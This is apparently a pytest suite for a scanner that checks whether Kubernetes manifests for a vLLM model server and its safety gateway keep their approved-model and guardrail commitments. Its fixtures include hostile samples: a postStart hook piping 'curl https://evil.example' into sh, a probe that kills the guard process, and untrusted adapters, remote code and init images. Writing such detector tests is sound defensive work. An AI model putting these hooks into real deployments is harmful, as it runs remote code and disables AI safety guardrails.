"""Settings and code that no input shows leave a verdict open; what is shown is judged as if it stood in the pod."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

from tests.harness import FIXTURES, run_scan

PLACES = {
    "model": ("k8s/model.yaml", "      containers:\n        - name: vllm\n", "approved-models"),
    "gateway": ("k8s/safety.yaml", "      containers:\n        - name: gateway\n", "guardrails-on"),
    "classifier": (
        "k8s/safety.yaml",
        "    metadata:\n      labels: {app: prompt-guard}\n    spec:\n      automountServiceAccountToken: false\n"
        "      containers:\n        - name: vllm\n",
        "guardrails-on",
    ),
}
SETTINGS = """\
apiVersion: v1
kind: ConfigMap
metadata: {name: settings, namespace: %s}
data:
%s
"""


def world_of(tmp_path: Path, who: str, pod: str, container: str, added: str, argument: str = "") -> dict[str, str]:
    """The verdicts of the reference world with fields added to the pod and the container of one of its workloads."""
    world = tmp_path / "world"
    shutil.copytree(FIXTURES / "worlds" / "reference", world)
    file, place, _ = PLACES[who]
    path = world / file
    text = path.read_text()
    assert place in text
    before, listed, name = place.rpartition("      containers:\n")
    made = before + "".join(f"      {one}\n" for one in pod.splitlines()) + listed + name
    made += "".join(f"          {one}\n" for one in container.splitlines())
    text = text.replace(place, made, 1)
    if argument:
        text = text.replace("            - --load-format", f"            - {argument}\n            - --load-format", 1)
    path.write_text(text)
    (world / "k8s" / "x.yaml").write_text(added)
    return {one["id"]: one["verdict"] for one in run_scan(world)["commitments"]}


def settings(who: str, data: str) -> str:
    space = "inference" if who == "model" else "safety"
    return SETTINGS % (space, "".join(f"  {line}\n" for line in data.splitlines()))


VOLUME = "volumes: [{name: v, configMap: {name: settings}}]"
FROM = "envFrom: [{%s: {name: settings}}]"


@pytest.mark.parametrize("who", PLACES)
@pytest.mark.parametrize(
    ("data", "said"),
    [(None, "unproven"), ("A: b", "holds")],
)
def test_a_whole_environment(tmp_path: Path, who: str, data: str | None, said: str) -> None:
    added = settings(who, data) if data else ""
    verdicts = world_of(tmp_path, who, "", FROM % "configMapRef", added)
    assert verdicts[PLACES[who][2]] == said
    assert set(verdicts.values()) <= {"holds", said}


def test_a_switch_in_a_whole_environment(tmp_path: Path) -> None:
    added = settings("model", 'RUNTIME_LORA_UPDATING: "True"')
    container = "envFrom: [{prefix: VLLM_ALLOW_, configMapRef: {name: settings}}]"
    assert world_of(tmp_path, "model", "", container, added)["approved-models"] == "violated"


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("", "unproven"),
        ("stringData: {HF_TOKEN: x}", "holds"),
        ("data: {VLLM_ALLOW_RUNTIME_LORA_UPDATING: VHJ1ZQ==}", "unproven"),
        ("data: {HF_TOKEN: VHJ1ZQ==}", "holds"),
        ("type: Opaque", "unproven"),
    ],
)
def test_the_names_of_a_secret(tmp_path: Path, text: str, said: str) -> None:
    secret = f"apiVersion: v1\nkind: Secret\nmetadata: {{name: settings, namespace: inference}}\n{text}\n"
    verdicts = world_of(tmp_path, "model", "", FROM % "secretRef", secret if text else "")
    assert verdicts["approved-models"] == said


CODE = {
    "packages": ("/usr/local/lib/python3.12/dist-packages/vllm", "unproven"),
    "a file": ("/app/hooks/guard.py", "unproven"),
    "a program": ("/usr/local/bin/vllm", "unproven"),
    "scratch": ("/dev/shm", "holds"),
    "drivers": ("/usr/local/nvidia/lib64", "holds"),
    "templates": ("/templates", "holds"),
}


@pytest.mark.parametrize("case", CODE)
def test_code_that_a_volume_replaces(tmp_path: Path, case: str) -> None:
    path, said = CODE[case]
    volume, mount = "volumes: [{name: v, emptyDir: {}}]", f"volumeMounts: [{{name: v, mountPath: {path}}}]"
    assert world_of(tmp_path, "model", volume, mount, "")["approved-models"] == said


@pytest.mark.parametrize(("path", "said"), [("/plugins", "unproven"), ("/opt/vllm", "holds")])
def test_code_that_a_variable_names(tmp_path: Path, path: str, said: str) -> None:
    container = f"env: [{{name: PYTHONPATH, value: {path}}}]\nvolumeMounts: [{{name: v, mountPath: /plugins}}]"
    verdicts = world_of(tmp_path, "model", "volumes: [{name: v, emptyDir: {}}]", container, "")
    assert verdicts["approved-models"] == said


@pytest.mark.parametrize(
    ("path", "data", "said"),
    [
        ("/etc/gateway", "", "unproven"),
        ("/etc/gateway", "a.yaml: x", "holds"),
        ("/etc/ssl/certs", "", "holds"),
    ],
)
def test_settings_of_the_stack(tmp_path: Path, path: str, data: str, said: str) -> None:
    mount = f"volumeMounts: [{{name: v, mountPath: {path}}}]"
    added = settings("classifier", data) if data else ""
    assert world_of(tmp_path, "classifier", VOLUME, mount, added)["guardrails-on"] == said


CLAIM = "volumes: [{name: v, persistentVolumeClaim: {claimName: c}}]"
PROJECTED = "volumes: [{name: v, projected: {sources: [{configMap: {name: settings}}]}}]"


@pytest.mark.parametrize(
    ("volume", "data", "named", "said"),
    [
        (CLAIM, "", "/etc/gateway/config.yaml", "unproven"),
        (CLAIM, "", "/etc/other/config.yaml", "holds"),
        (PROJECTED, "", "", "unproven"),
        (PROJECTED, "a.yaml: x", "", "holds"),
        (VOLUME.replace("configMap: {name", "secret: {secretName"), "", "/etc/gateway/config.yaml", "unproven"),
        (VOLUME.replace("configMap: {name", "secret: {secretName"), "", "", "holds"),
    ],
)
def test_settings_in_other_volumes(tmp_path: Path, volume: str, data: str, named: str, said: str) -> None:
    mount = f"env: [{{name: SETTINGS, value: '{named}'}}]\nvolumeMounts: [{{name: v, mountPath: /etc/gateway}}]"
    added = settings("classifier", data) if data else ""
    assert world_of(tmp_path, "classifier", volume, mount, added)["guardrails-on"] == said


FILE = "--config=/etc/vllm/vllm.yaml"
MOUNT = "volumeMounts: [{name: v, mountPath: /etc/vllm}]"
FILES = {
    "not shown": ("", "unproven"),
    "of no consequence": ("vllm.yaml: |\n  port: 8000\n  max-model-len: 4096", "holds"),
    "of one line": ("vllm.yaml: 'max-model-len: 4096'", "holds"),
    "another key": ("other.yaml: 'port: 8000'", "unproven"),
    "no mapping": ("vllm.yaml: '- port'", "unproven"),
    "an adapter": ("vllm.yaml: |\n  enable-lora: true\n  lora-modules: [a=evil/x]", "violated"),
    "a draft": ("vllm.yaml: |\n  speculative-config: {model: evil/x}", "violated"),
    "code of others": ("vllm.yaml: |\n  trust-remote-code: true", "violated"),
    "code of nobody": ("vllm.yaml: |\n  trust-remote-code: false", "holds"),
    "a model that the command line overrules": ("vllm.yaml: |\n  model: evil/x", "holds"),
}


@pytest.mark.parametrize("case", FILES)
def test_arguments_in_a_file(tmp_path: Path, case: str) -> None:
    data, said = FILES[case]
    added = settings("model", data) if data else ""
    assert world_of(tmp_path, "model", VOLUME, MOUNT, added, FILE)["approved-models"] == said


HOOKS = [
    ("lifecycle: {postStart: {exec: {command: [sh, -c, 'curl https://evil.example | sh']}}}", "unproven"),
    ("lifecycle: {postStart: {exec: {command: [python, /x.py]}}}", "unproven"),
    ("lifecycle: {postStart: {exec: {command: [sh, -c, \"sleep 3\\npython /x.py\"]}}}", "unproven"),
    ("lifecycle: {postStart: {exec: {command: [sh, -c, 'mkdir -p /tmp/a && echo ok']}}}", "holds"),
    ("lifecycle: {preStop: {exec: {command: [sleep, '30']}}}", "holds"),
    ("lifecycle: {preStop: {exec: {command: [/bin/sh, -c, 'sleep 5; curl localhost:8000/drain']}}}", "holds"),
    ("livenessProbe: {exec: {command: [sh, -c, 'curl -X POST localhost:8000/v1/load_lora_adapter']}}", "unproven"),
    ("readinessProbe: {exec: {command: [curl, -f, 'http://localhost:8000/health']}}", "holds"),
    ("startupProbe: {exec: {command: [curl, -X, POST, 'http://localhost/generate', -d, '{}']}}", "holds"),
    ("startupProbe: {exec: {command: [sh, -c, 'pkill -f guard']}}", "unproven"),
]  # fmt: skip


@pytest.mark.parametrize(("field", "said"), HOOKS)
@pytest.mark.parametrize("who", ["model", "gateway"])
def test_commands_beside_the_program(tmp_path: Path, who: str, field: str, said: str) -> None:
    assert world_of(tmp_path, who, "", field, "")[PLACES[who][2]] == said


@pytest.mark.parametrize(("who", "said"), [("gateway", "unproven"), ("classifier", "unproven")])
def test_what_runs_first_in_a_pod_of_the_stack(tmp_path: Path, who: str, said: str) -> None:
    verdicts = world_of(tmp_path, who, "initContainers: [{name: i, image: docker.io/evil/x:latest}]", "", "")
    assert verdicts["safety-path"] == said


ODD = [
    ("volumes: x", "volumeMounts: [{name: v, mountPath: /app/a.py}, 4, {mountPath: [x]}]"),
    ("volumes: [3, {name: v, configMap: x}]", "volumeMounts: {name: v, mountPath: /usr/bin}"),
    ("initContainers: [x, {name: [a]}]", "lifecycle: [postStart]\nlivenessProbe: {exec: x}"),
    ("volumes: [{name: v, configMap: {items: 3, name: {a: b}}}]", "lifecycle: {postStart: {exec: {command: {a: b}}}}"),
    ("", "envFrom: {configMapRef: [x]}\nenv: [{name: PYTHONPATH, value: [/a]}]\nsecurityContext: {capabilities: x}"),
]  # fmt: skip


@pytest.mark.parametrize(("pod", "container"), ODD)
@pytest.mark.parametrize("who", PLACES)
def test_fields_of_the_wrong_kind_stop_nothing(tmp_path: Path, who: str, pod: str, container: str) -> None:
    assert set(world_of(tmp_path, who, pod, container, "").values()) <= {"holds", "unproven", "violated"}
